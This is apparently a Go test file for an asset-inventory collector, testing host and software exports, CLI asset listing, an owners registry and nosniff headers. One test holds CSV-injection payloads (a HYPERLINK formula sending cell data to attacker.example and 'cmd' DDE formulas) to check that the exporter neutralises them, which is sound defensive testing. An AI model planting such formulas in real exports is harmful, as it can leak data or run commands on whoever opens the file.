package app

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"io"
	"net/http"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/onus-project/onus/collector/cli"
	"github.com/onus-project/onus/internal/model"
	"github.com/onus-project/onus/internal/owners"
	"github.com/onus-project/onus/internal/protocol"
	"github.com/onus-project/onus/internal/testutil/fixture"
)

// fleet starts a collector fed with the debian12, rocky9 and arch golden inventories (the
// first given two network interfaces), after edit changes them when not nil, and returns it
// with the inventories.
func fleet(t *testing.T, edit func([]*model.Inventory)) (*running, []*model.Inventory) {
	t.Helper()
	c := start(t, Options{DataDir: t.TempDir()})
	invs := []*model.Inventory{fixture.Golden(t, "debian12"), fixture.Golden(t, "rocky9"), fixture.Golden(t, "arch")}
	invs[0].Host.Interfaces = []model.Interface{
		{Name: "lo", MAC: "00:00:00:00:00:00", Up: true, Addrs: []string{"127.0.0.1/8", "::1/128"}},
		{Name: "eth0", MAC: "52:54:00:12:34:56", Up: true, Addrs: []string{"192.0.2.10/24", "2001:db8::10/64"}},
	}
	if edit != nil {
		edit(invs)
	}
	for _, inv := range invs {
		full, _ := fullReport(inv, 1)
		report(t, c.url, enroll(t, c.url, inv.Host.ID), full)
	}
	return c, invs
}

// runCLI runs an onus-collector client command against c and returns its standard output.
func runCLI(t *testing.T, c *running, want int, args ...string) string {
	t.Helper()
	tokenFile := filepath.Join(t.TempDir(), "token")
	if err := os.WriteFile(tokenFile, []byte(admin+"\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	n := 1
	if args[0] == "owners" || args[0] == "assets" {
		n = 2
	}
	full := append(append(append([]string{}, args[:n]...), "--server", c.url, "--token-file", tokenFile), args[n:]...)
	var out, errOut bytes.Buffer
	if code := cli.Run(full, &out, &errOut); code != want {
		t.Fatalf("%q: exit %d, want %d; stderr: %s", args, code, want, errOut.String())
	}
	return out.String()
}

func readCSV(t *testing.T, b []byte) (header []string, rows map[string][]string) {
	t.Helper()
	recs, err := csv.NewReader(bytes.NewReader(b)).ReadAll()
	if err != nil || len(recs) == 0 {
		t.Fatalf("CSV: %v\n%s", err, b)
	}
	rows = map[string][]string{}
	for _, r := range recs[1:] {
		rows[r[0]] = r
	}
	return recs[0], rows
}

// TestExport checks the audit export of hosts and software, over the API and the CLI.
func TestExport(t *testing.T) {
	c, invs := fleet(t, nil)
	deb, rocky, arch := invs[0].Host.ID, invs[1].Host.ID, invs[2].Host.ID
	runCLI(t, c, 0, "owners", "apply", "-f", writeTemp(t, testOwners))

	// Hosts, CSV through the CLI into a file.
	out := filepath.Join(t.TempDir(), "hosts.csv")
	runCLI(t, c, 0, "export", "--kind", "hosts", "--format", "csv", "-o", out)
	b, err := os.ReadFile(out)
	if err != nil {
		t.Fatal(err)
	}
	header, rows := readCSV(t, b)
	if !slices.Equal(header, []string{"host_id", "hostname", "fqdn", "os", "ip_addresses", "mac_addresses", "owner", "department", "orphaned", "last_seen"}) {
		t.Fatalf("hosts header: %q", header)
	}
	if len(rows) != len(invs) {
		t.Fatalf("hosts: %d rows, want %d:\n%s", len(rows), len(invs), b)
	}
	for _, inv := range invs {
		r := rows[inv.Host.ID]
		if r == nil || r[1] != inv.Host.Hostname || r[2] != inv.Host.FQDN || r[3] != inv.Host.OS.PrettyName || r[9] == "" {
			t.Errorf("host %s: %q", inv.Host.ID, r)
		}
	}
	for id, want := range map[string][]string{
		deb:   {"192.0.2.10 2001:db8::10", "52:54:00:12:34:56", "web", "web", "no"},
		rocky: {"", "", "dba", "dba", "no"},
		arch:  {"", "", "", "", "no"},
	} {
		if got := rows[id][4:9]; !slices.Equal(got, want) {
			t.Errorf("host %s: addresses, owner, department, orphaned %q, want %q", id, got, want)
		}
	}

	// Software, CSV through the API: every title some host has, owned ones authorized.
	code, b := do(t, "GET", c.url+"/api/v1/export?kind=software&format=csv", "", "", nil)
	if code != 200 {
		t.Fatalf("software export: %d %s", code, b)
	}
	header, rows = readCSV(t, b)
	if !slices.Equal(header, []string{"title", "source", "name", "vendor", "maintainer", "first_seen", "hosts", "owner", "department", "orphaned", "authorized"}) {
		t.Fatalf("software header: %q", header)
	}
	var titles struct {
		Items []struct {
			Title string `json:"title"`
			owners.Resolution
		} `json:"items"`
	}
	call(t, "GET", c.url+"/api/v1/software", admin, nil, false, &titles)
	if len(rows) != 63 || len(titles.Items) != 63 {
		t.Fatalf("software: %d rows, %d titles listed, want 63", len(rows), len(titles.Items))
	}
	authorized := 0
	for _, it := range titles.Items {
		r := rows[it.Title]
		if r == nil || r[7] != it.Owner || r[10] != map[bool]string{true: "yes", false: "no"}[it.Owned()] || r[6] == "" || r[5] == "" {
			t.Errorf("title %s: %q, listed %+v", it.Title, r, it.Resolution)
		}
		if r != nil && r[10] == "yes" {
			authorized++
		}
	}
	if authorized != 10 {
		t.Errorf("%d titles authorized, want 10 (nginx and postgresql ones)", authorized)
	}
	if r := rows["deb:nginx"]; r[7] != "web" || r[10] != "yes" || r[9] != "no" {
		t.Errorf("deb:nginx: %q", r)
	}
	if r := rows["deb:sudo"]; r[7] != "old" || r[9] != "yes" || r[10] != "no" {
		t.Errorf("deb:sudo (owner retired): %q", r)
	}
	if r := rows["deb:bash"]; r != nil && (r[7] != "" || r[10] != "no") {
		t.Errorf("deb:bash: %q", r)
	}

	// JSON, through the CLI.
	var js []map[string]any
	if err := json.Unmarshal([]byte(runCLI(t, c, 0, "export", "--kind", "hosts", "--format", "json")), &js); err != nil || len(js) != 3 {
		t.Fatalf("hosts JSON: %v %v", err, js)
	}
	if err := json.Unmarshal([]byte(runCLI(t, c, 0, "export", "--kind", "software", "--format", "json")), &js); err != nil || len(js) != 63 {
		t.Fatalf("software JSON: %v %d", err, len(js))
	}
	for _, tc := range []struct {
		path string
		want int
	}{{"?kind=services", 400}, {"?kind=hosts&format=xml", 400}, {"?kind=hosts", 200}} {
		if code := call(t, "GET", c.url+"/api/v1/export"+tc.path, admin, nil, false, nil); code != tc.want {
			t.Errorf("export%s: %d, want %d", tc.path, code, tc.want)
		}
	}
	if code := call(t, "GET", c.url+"/api/v1/export?kind=hosts", "", nil, false, nil); code != 401 {
		t.Errorf("export without a token: %d", code)
	}
	runCLI(t, c, 2, "export", "--kind", "nope")
}

func writeTemp(t *testing.T, content string) string {
	t.Helper()
	p := filepath.Join(t.TempDir(), "owners.yaml")
	if err := os.WriteFile(p, []byte(content), 0o644); err != nil {
		t.Fatal(err)
	}
	return p
}

// TestAssetsList runs assets list with each filter against a collector fed with the golden
// inventories.
func TestAssetsList(t *testing.T) {
	c, invs := fleet(t, nil)
	deb, rocky, arch := invs[0].Host.ID, invs[1].Host.ID, invs[2].Host.ID
	runCLI(t, c, 0, "owners", "apply", "-f", writeTemp(t, testOwners))
	lines := func(out string) []string { return strings.Split(strings.TrimSpace(out), "\n") }

	out := runCLI(t, c, 0, "assets", "list", "--kind", "host")
	if l := lines(out); len(l) != 4 || !strings.HasPrefix(l[0], "ID") || !strings.Contains(out, "rule db-hosts") || !strings.Contains(out, "(none)") {
		t.Fatalf("hosts:\n%s", out)
	}
	for _, tc := range []struct {
		args []string
		want []string // hosts or titles listed
	}{
		{[]string{"--kind", "host", "--owner", "web"}, []string{deb}},
		{[]string{"--kind", "host", "--unowned"}, []string{arch}},
		{[]string{"--kind", "host", "--owner", "dba"}, []string{rocky}},
		{[]string{"--kind", "software", "--orphaned"}, []string{"deb:sudo", "pacman:sudo", "rpm:sudo"}},
		{[]string{"--kind", "software", "--owner", "web"}, []string{"deb:nginx", "deb:nginx-common", "pacman:nginx", "rpm:nginx"}},
		{[]string{"--kind", "software", "--new"}, nil}, // every title came in a first report
	} {
		var items []struct {
			ID    string `json:"id"`
			Title string `json:"title"`
		}
		args := append([]string{"assets", "list", "--json"}, tc.args...)
		if err := json.Unmarshal([]byte(runCLI(t, c, 0, args...)), &items); err != nil {
			t.Fatalf("%q: %v", tc.args, err)
		}
		var got []string
		for _, it := range items {
			got = append(got, it.ID+it.Title)
		}
		if !slices.Equal(got, tc.want) {
			t.Errorf("%q: %q, want %q", tc.args, got, tc.want)
		}
	}
	if out := runCLI(t, c, 0, "assets", "list", "--kind", "software", "--unowned"); len(lines(out)) != 1+53 || !strings.Contains(out, "old (retired)") {
		t.Errorf("unowned software: %d lines:\n%s", len(lines(out)), out)
	}
	if out := runCLI(t, c, 0, "assets", "list", "--kind", "service"); !strings.Contains(out, "port:tcp/22") || !strings.HasPrefix(out, "TITLE") {
		t.Errorf("services:\n%s", out)
	}
	runCLI(t, c, 2, "assets", "list")
	runCLI(t, c, 2, "assets", "list", "--kind", "service", "--unowned")
	runCLI(t, c, 2, "assets", "list", "--kind", "host", "--new")
	runCLI(t, c, 2, "assets", "show")
}

// TestExampleOwners applies deploy/owners.example.yaml, the example of a realistic small
// company, to a collector fed with the golden inventories: it must load and apply cleanly
// and own something of every kind.
func TestExampleOwners(t *testing.T) {
	// The example owns hosts by the labels agents are configured with (role, env); the golden
	// inventories carry env=test only, so they are given the labels a production fleet would.
	c, _ := fleet(t, func(invs []*model.Inventory) {
		invs[0].Host.Labels = map[string]string{"role": "web", "env": "prod"}
		invs[1].Host.Labels = map[string]string{"role": "db", "env": "prod"}
	})
	example := filepath.Join("..", "..", "deploy", "owners.example.yaml")
	if out := runCLI(t, c, 0, "owners", "apply", "--dry-run", "-f", example); !strings.Contains(out, "dry run: nothing written") {
		t.Fatalf("dry run:\n%s", out)
	}
	out := runCLI(t, c, 0, "owners", "apply", "-f", example)
	t.Logf("apply:\n%s", out)
	var cov coverageResp
	if code := call(t, "GET", c.url+"/api/v1/coverage", admin, nil, false, &cov); code != 200 || cov.RegistryRevision == 0 {
		t.Fatalf("coverage: %d %+v", code, cov)
	}
	for _, k := range cov.Coverage {
		if k.Total == 0 || k.Owned == 0 || k.Ratio <= 0 {
			t.Errorf("coverage of %s under the example registry: %+v", k.Kind, k)
		}
	}
	t.Logf("coverage: %+v", cov.Coverage)
}

// TestExportNeutralisesFormulas feeds host facts and package fields that a spreadsheet would
// run as formulas through a real collector: the CSV export must give each of them a leading
// single quote (OWASP's advice on CSV injection), the JSON export must keep them as they are.
func TestExportNeutralisesFormulas(t *testing.T) {
	const (
		hyperlink = `=HYPERLINK("http://attacker.example/?"&A1,"Click for the report")`
		cmd       = `+cmd|' /C calc'!A0`
		at        = `@SUM(1+1)*cmd|' /C calc'!A0`
		minus     = `-2+3+cmd|' /C calc'!A0`
	)
	c, invs := fleet(t, func(invs []*model.Inventory) {
		invs[0].Host.Hostname, invs[0].Host.FQDN, invs[0].Host.OS.PrettyName = hyperlink, at, "\tOS"
		invs[0].Software = append(invs[0].Software, model.Package{Source: "deb", Name: minus, Version: "1.0",
			PackageInfo: model.PackageInfo{Vendor: "\t=1+1", Maintainer: cmd}})
	})
	deb := invs[0].Host.ID

	code, b := do(t, "GET", c.url+"/api/v1/export?kind=hosts&format=csv", "", "", nil)
	if code != 200 {
		t.Fatalf("hosts export: %d %s", code, b)
	}
	_, rows := readCSV(t, b)
	if got, want := rows[deb][1:4], []string{"'" + hyperlink, "'" + at, "'\tOS"}; !slices.Equal(got, want) {
		t.Errorf("host cells %q, want %q", got, want)
	}
	out := filepath.Join(t.TempDir(), "software.csv")
	runCLI(t, c, 0, "export", "--kind", "software", "--format", "csv", "-o", out)
	b, err := os.ReadFile(out)
	if err != nil {
		t.Fatal(err)
	}
	_, rows = readCSV(t, b)
	r := rows["deb:"+minus]
	if r == nil {
		t.Fatalf("no row for the title deb:%s in\n%s", minus, b)
	}
	if got, want := r[2:5], []string{"'" + minus, "'\t=1+1", "'" + cmd}; !slices.Equal(got, want) {
		t.Errorf("software cells %q, want %q", got, want)
	}
	// No cell of either export starts a formula.
	for _, kind := range []string{"hosts", "software"} {
		_, b := do(t, "GET", c.url+"/api/v1/export?kind="+kind+"&format=csv", "", "", nil)
		recs, err := csv.NewReader(bytes.NewReader(b)).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		for _, rec := range recs {
			for _, cell := range rec {
				if cell != "" && strings.ContainsAny(cell[:1], "=+-@\t\r") {
					t.Errorf("%s export: cell %q starts a formula", kind, cell)
				}
			}
		}
	}
	// JSON is data, not a spreadsheet: the values stay exact.
	var hosts []struct {
		HostID, Hostname, FQDN string
	}
	if err := json.Unmarshal([]byte(runCLI(t, c, 0, "export", "--kind", "hosts", "--format", "json")), &hosts); err != nil {
		t.Fatal(err)
	}
	for _, h := range hosts {
		if h.HostID == deb && (h.Hostname != hyperlink || h.FQDN != at) {
			t.Errorf("JSON export changed the host's facts: %+v", h)
		}
	}
}

// TestNosniff checks that every kind of API answer, success or refusal, JSON, CSV or text,
// tells browsers not to guess its type.
func TestNosniff(t *testing.T) {
	c, _ := fleet(t, nil)
	for _, tc := range []struct {
		method, path, token string
		want                int
	}{
		{"GET", "/api/v1/hosts", admin, 200},
		{"GET", "/api/v1/export?kind=software&format=csv", admin, 200},
		{"GET", "/api/v1/export?kind=hosts&format=xml", admin, 400},
		{"GET", "/api/v1/hosts", "", 401},
		{"GET", "/api/v1/nothing", admin, 404},
		{"POST", protocol.PathReport, "wrong-credential", 401},
		{"POST", protocol.PathEnroll, "", 400},
		{"GET", "/healthz", "", 200},
		{"GET", "/readyz", "", 200},
		{"GET", "/metrics", "", 200},
	} {
		req, err := http.NewRequest(tc.method, c.url+tc.path, strings.NewReader("{"))
		if err != nil {
			t.Fatal(err)
		}
		if tc.token != "" {
			req.Header.Set("Authorization", "Bearer "+tc.token)
		}
		resp, err := http.DefaultClient.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		io.Copy(io.Discard, resp.Body)
		resp.Body.Close()
		if resp.StatusCode != tc.want || resp.Header.Get("X-Content-Type-Options") != "nosniff" {
			t.Errorf("%s %s: %d, X-Content-Type-Options %q; want %d, nosniff", tc.method, tc.path, resp.StatusCode,
				resp.Header.Get("X-Content-Type-Options"), tc.want)
		}
	}
}
